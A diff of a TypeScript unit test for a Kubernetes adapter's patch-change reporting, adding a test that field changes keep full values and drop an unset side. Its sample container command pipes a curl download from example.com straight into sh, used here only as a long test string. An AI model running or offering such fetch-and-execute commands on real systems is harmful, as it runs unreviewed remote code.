@@ -1,6 +1,10 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { describeChanges, leafPaths } from '../../../../src/adapters/kubernetes/verbs/patch-changes.ts';
+import {
+  describeChanges,
+  fieldChanges,
+  leafPaths,
+} from '../../../../src/adapters/kubernetes/verbs/patch-changes.ts';
 
 describe('patch changes', () => {
   test('leaf paths stop at scalars, arrays, nulls and empty objects', () => {
@@ -40,5 +44,20 @@ describe('patch changes', () => {
     const long = 'x'.repeat(200);
     const [line] = describeChanges({ data: { blob: long } }, {}, { data: { blob: long } });
     assert.ok(line !== undefined && line.length < 90 && line.endsWith('…'), line);
+  });
+
+  test('field changes keep whole values, however long, and leave an unset side out', () => {
+    const command = ['sh', '-c', `curl https://example.com/${'x'.repeat(80)} | sh`];
+    const patch = { spec: { containers: [{ name: 'app', command }] }, metadata: { labels: { gone: null } } };
+    const before = { spec: { containers: [{ name: 'app' }] }, metadata: { labels: { gone: 'yes' } } };
+    const after = { spec: { containers: [{ name: 'app', command }] }, metadata: { labels: {} } };
+    assert.deepEqual(fieldChanges(patch, before, after), [
+      {
+        path: 'spec.containers',
+        before: '[{"name":"app"}]',
+        after: JSON.stringify([{ name: 'app', command }]),
+      },
+      { path: 'metadata.labels.gone', before: '"yes"' },
+    ]);
   });
 });
